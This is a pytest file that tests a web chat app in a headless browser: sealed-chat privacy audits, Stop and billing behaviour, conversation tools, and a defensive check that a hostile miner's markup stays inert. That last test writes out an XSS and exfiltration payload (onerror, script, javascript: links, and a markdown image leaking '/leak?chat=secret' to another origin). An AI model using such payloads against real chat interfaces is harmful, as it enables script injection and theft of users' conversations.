"""The web app's chat, in a real headless Chromium against real networks: a sealed chat whose
words the coordinator never sees (and the positive control in the clear), Stop before and
after the first token (the coordinator cancels, the user pays for what was sent), a hostile
miner's markup rendered inert, and the conversation tools (regenerate, edit, history,
export)."""

from __future__ import annotations

import http.server
import json
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest

from conftest import MODEL, Network, metric
from covey.cli_audit import find_traces
from webui import assert_accessible, browser, page_of, shoot

_PAGE_TEXT = "\n".join(
    path.read_text(errors="replace") for path in
    (Path(__file__).resolve().parents[1] / "src" / "covey" / "coordinator" / "web").rglob("*")
    if path.suffix in (".html", ".js", ".css"))

SECRET = "Quimbleworth"
PLAIN_SECRET = "Xylophanta"
GRANT = 10_000_000  # µcr: the faucet's default grant
CANCELLED = f'covey_requests_total{{model="{MODEL}",status="499"}}'  # the client's cancel


@pytest.fixture(scope="module")
def net(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Network]:
    """A coordinator that records its traffic and logs at debug level, and one miner with a
    single slot (so a second request queues)."""
    tmp = tmp_path_factory.mktemp("webchat")
    net = Network(tmp, "--log-level", "debug", "--record-traffic", str(tmp / "traffic.log"))
    try:
        net.add_miner("--ctx", "1024", "--stream-interval", "0", "--slots", "1")
        yield net
    finally:
        net.close()


@pytest.fixture(scope="module")
def chromium() -> Iterator[object]:
    with browser() as b:
        yield b


def traces(net: Network, *words: str) -> dict[tuple[str, str], int]:
    return find_traces(list(words), net.tmp / "coordinator",
                       logs=[net.coordinator.log, net.tmp / "traffic.log"])


def _open_chat(page) -> None:
    page.locator(f'#models button[data-model="{MODEL}"]').click()
    page.wait_for_selector("#prompt")


def _ask(page, text: str, timeout: float = 90_000) -> object:
    """Send ``text`` and wait for the answer; returns its message element."""
    done = page.locator(".msg.assistant[data-done=true]")
    before = done.count()
    page.fill("#prompt", text)
    page.click("#send")
    done.nth(before).wait_for(timeout=timeout)  # a locator: works under the page's CSP
    return done.nth(before)


def _stored(page) -> list[dict]:
    return json.loads(page.evaluate("localStorage.getItem('covey.conversations')") or "[]")


def _account(net: Network, page) -> dict:
    key = page.evaluate("localStorage.getItem('covey.api_key')")
    return httpx.get(f"{net.url}/v1/account", headers={"Authorization": f"Bearer {key}"},
                     timeout=10).json()


def test_sealed_chat_hides_the_words_from_the_coordinator(net, chromium):
    with page_of(chromium, net.url) as page:
        _open_chat(page)
        assert page.is_checked("#sealed-toggle"), "end-to-end encryption is on by default"
        answer = _ask(page, f"My name is {SECRET}. Repeat my name, then count to five.")
        assert answer.inner_text().strip()
        assert "error" not in (answer.get_attribute("class") or "")
        status = page.inner_text("#seal-status")
        miner = httpx.get(f"{net.url}/v1/miners").json()["data"][0]["id"]
        assert f"sealed to miner {miner[:12]}" in status, status
        assert "completion tokens" in page.inner_text("#usage")
        assert "credits" in page.inner_text("#usage")
        shoot(page, "chat-sealed")
        assert_accessible(page, "sealed chat")
        time.sleep(1.0)  # settlements land
        usage = _account(net, page)["usage"][MODEL]
        assert usage["requests"] == 1
        text = answer.locator(".msg-body").inner_text()
        # The traffic log also holds the page's own scripts and markup as served: a word
        # of the answer that they contain too says nothing about the answer.
        words = [w for w in text.split() if len(w) >= 8 and w not in _PAGE_TEXT][:3]
        # The audit reaches this request's own records (its id) ...
        job_id = _stored(page)[0]["messages"][-1]["id"]
        assert job_id.startswith("chatcmpl-") and traces(net, job_id)
        # ... and finds none of its words: not the prompt's, not the answer's.
        assert traces(net, SECRET, *words) == {}
        audit = subprocess.run(
            [sys.executable, "-m", "covey", "audit", "--data-dir", str(net.tmp / "coordinator"),
             "--log", str(net.coordinator.log), "--log", str(net.tmp / "traffic.log"), SECRET],
            capture_output=True, text=True)
        assert audit.returncode == 0 and "not found" in audit.stdout, audit.stdout + audit.stderr

        # The answer's receipt, one click away, checked in the browser.
        answer.locator("a", has_text="Receipt").click()
        page.wait_for_selector("text=Receipt valid")

        # Positive control: the same page with encryption off sends words the audit finds.
        page.go_back()
        page.wait_for_selector("#prompt")
        page.uncheck("#sealed-toggle")
        assert "not encrypted" in page.inner_text("#seal-status")
        _ask(page, f"My name is {PLAIN_SECRET}. Say hello.")
        assert {w for w, _ in traces(net, PLAIN_SECRET)} == {PLAIN_SECRET}
        # Off for that conversation only: a new chat is sealed again.
        page.click("#new-chat")
        assert page.is_checked("#sealed-toggle")
        assert "end-to-end encrypted" in page.inner_text("#seal-status")


def _occupy(net: Network, stop: threading.Event) -> threading.Thread:
    """Keep the only miner slot busy with a long streamed answer until ``stop``."""
    def run() -> None:
        with httpx.stream("POST", f"{net.url}/v1/chat/completions", headers=net.headers,
                          timeout=120, json={"model": MODEL, "stream": True, "max_tokens": 900,
                                             "messages": [{"role": "user",
                                                           "content": "Write a long story."}]}
                          ) as r:
            for _ in r.iter_lines():
                if stop.is_set():
                    return
    thread = threading.Thread(target=run, daemon=True)
    thread.start()
    return thread


def _wait(cond, timeout: float = 30, what: str = "") -> None:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if cond():
            return
        time.sleep(0.05)
    raise AssertionError(f"timed out waiting for {what}")


def test_stop_before_the_first_token_costs_nothing(net, chromium):
    stop = threading.Event()
    busy = _occupy(net, stop)
    try:
        _wait(lambda: net.active_jobs() == 1, what="the miner to be busy")
        with page_of(chromium, net.url) as page:
            _open_chat(page)
            cancelled = metric(net, CANCELLED)
            page.fill("#prompt", "Tell me about the sea.")
            page.click("#send")
            _wait(lambda: metric(net, "covey_queue_depth") == 1, what="the request to queue")
            page.click("#stop")
            page.wait_for_selector(".msg.assistant[data-done=true]")
            # The coordinator cancelled it: counted as the client's cancel, out of the queue.
            _wait(lambda: metric(net, "covey_queue_depth") == 0, what="the queue to empty")
            _wait(lambda: metric(net, CANCELLED) == cancelled + 1,
                  what="the cancel to be counted")
            assert "stopped" in page.inner_text("#usage")
            account = _account(net, page)
            assert (account["balance"], account["held"], account["usage"]) == (GRANT, 0, {})
    finally:
        stop.set()
        busy.join(timeout=30)
        assert net.wait_idle(30)


def test_stop_after_the_first_token_pays_for_what_was_sent(net, chromium):
    assert net.wait_idle(30)
    with page_of(chromium, net.url) as page:
        _open_chat(page)
        page.click("#chat-settings summary")
        page.fill("#max-tokens", "600")
        page.fill("#prompt", "Write a very long story about a lighthouse keeper.")
        page.click("#send")
        page.wait_for_function(
            "document.querySelector('.msg.assistant .msg-body')"
            " && document.querySelector('.msg.assistant .msg-body').textContent.length > 20")
        page.click("#stop")
        page.wait_for_selector(".msg.assistant[data-done=true]")
        assert net.wait_idle(10), "the miner's job must be cancelled"
        message = _stored(page)[0]["messages"][-1]
        assert message["finish_reason"] == "cancelled"
        delivered = message["usage"]["completion_tokens"]
        assert 0 < delivered < 600
        _wait(lambda: _account(net, page)["usage"].get(MODEL), what="the settlement")
        account = _account(net, page)
        usage = account["usage"][MODEL]
        assert usage["completion_tokens"] == delivered, (usage, delivered)
        assert account["held"] == 0
        assert account["balance"] == GRANT - usage["cost"]
        assert message["cost"] == usage["cost"]  # what the page says it cost
        assert "stopped" in page.inner_text("#usage")


def test_conversation_tools(net, chromium, tmp_path):
    with page_of(chromium, net.url) as page:
        _open_chat(page)
        page.click("#chat-settings summary")
        page.fill("#system-prompt", "You answer in one short sentence.")
        page.fill("#max-tokens", "24")
        first = _ask(page, "What is the capital of France?").inner_text()
        assert first.strip()
        # Regenerate: the last answer is written again, the question kept once.
        page.click("#regenerate")
        page.wait_for_function("!document.querySelector('#regenerate').disabled")
        stored = _stored(page)[0]["messages"]
        assert [m["role"] for m in stored] == ["user", "assistant"]
        # Edit and resend: the question changes, what followed it is dropped.
        page.locator(".msg.user button", has_text="Edit").click()
        page.fill(".msg.user textarea", "What is the capital of Italy?")
        page.click("text=Save and send")
        page.wait_for_function("!document.querySelector('#regenerate').disabled")
        stored = _stored(page)[0]["messages"]
        assert [m["role"] for m in stored] == ["user", "assistant"]
        assert stored[0]["content"] == "What is the capital of Italy?"
        # Kept in the browser: a reload shows the conversation in the list.
        page.reload()
        page.wait_for_selector("body[data-catalog=ready]")
        page.wait_for_selector("#prompt")  # the address still names the model's chat
        page.locator("#conversation-list .conv", has_text="capital of Italy").click()
        page.wait_for_selector(".msg.user", state="attached")
        assert "capital of Italy" in page.inner_text("#log")
        # Export as JSON and as markdown.
        with page.expect_download() as download:
            page.click("#export-json")
        exported = json.loads(download.value.path().read_text())
        assert exported["messages"][0]["content"] == "What is the capital of Italy?"
        with page.expect_download() as download:
            page.click("#export-md")
        assert "## You" in download.value.path().read_text()
        shoot(page, "chat-tools")


@pytest.fixture
def elsewhere() -> Iterator[tuple[str, list[str]]]:
    """An HTTP server on another origin (another port) that records every path asked of
    it: (its base URL, the paths)."""
    hits: list[str] = []

    class Recorder(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:  # noqa: N802 - the stdlib's name
            hits.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "image/png")
            self.end_headers()

        def log_message(self, *args: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", hits
    finally:
        server.shutdown()
        server.server_close()


def test_a_hostile_miners_markup_runs_nothing(tmp_path, chromium, elsewhere):
    base, hits = elsewhere
    payload = ('**bold** <img src="x" onerror="window.__xss=1"> <script>window.__xss=2</script>'
               ' <a href="javascript:window.__xss=3">link</a> <svg onload="window.__xss=4"></svg>'
               f' ![leak]({base}/leak?chat=secret) <img src="{base}/img">'
               f' <p style="background-image:url({base}/style)">styled</p>'
               '\n\n```\nprint(1)\n```\n')
    net = Network(tmp_path, "--no-trial")
    try:
        net.add_miner("--ctx", "1024", env={"COVEY_TEST_ADVERSARY": f"inject:{payload}"})
        with page_of(chromium, net.url, csp=True) as page:
            _open_chat(page)
            page.click("#chat-settings summary")
            page.fill("#max-tokens", "16")  # the model's own words after the markup: few
            for sealed in (True, False):
                page.click("#new-chat")  # the first answer is not in the second's prompt
                page.set_checked("#sealed-toggle", sealed)
                answer = _ask(page, "Say something.")
                body = answer.locator(".msg-body")
                assert body.locator("strong").first.inner_text() == "bold"
                assert body.locator("pre code", has_text="print(1)").count() >= 1
                assert body.locator("pre .copy-code").count() == body.locator("pre").count()
                assert body.locator("script, [onerror], [onload], a[href^=javascript]"
                                    ).count() == 0
            page.wait_for_timeout(500)
            assert page.evaluate("window.__xss") is None
            # The page's policy keeps an answer from loading anything from elsewhere (which
            # would carry the conversation away).
            assert hits == [], hits
    finally:
        net.close()
